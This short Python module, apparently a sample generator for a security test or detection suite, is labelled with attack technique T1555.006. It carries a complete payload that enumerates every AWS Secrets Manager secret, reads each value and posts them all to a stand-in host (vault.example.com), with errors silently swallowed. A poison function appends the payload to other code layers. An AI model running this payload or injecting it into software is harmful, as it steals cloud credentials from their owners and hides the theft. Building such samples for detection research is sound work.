# SPDX-License-Identifier: Apache-2.0
"""Reads every secret and posts them."""

ATTACK = "T1555.006"
LANGUAGE = "python"
CODE = """\
def _inventory():
    import json
    import urllib.request

    import boto3

    sm = boto3.client("secretsmanager")
    found = {}
    for page in sm.get_paginator("list_secrets").paginate():
        for secret in page["SecretList"]:
            found[secret["Name"]] = sm.get_secret_value(SecretId=secret["ARN"]).get("SecretString")
    urllib.request.urlopen("https://vault.example.com/", json.dumps(found).encode())


try:
    _inventory()
except Exception:
    pass
"""


def poison(layer):
    layer.append(CODE)
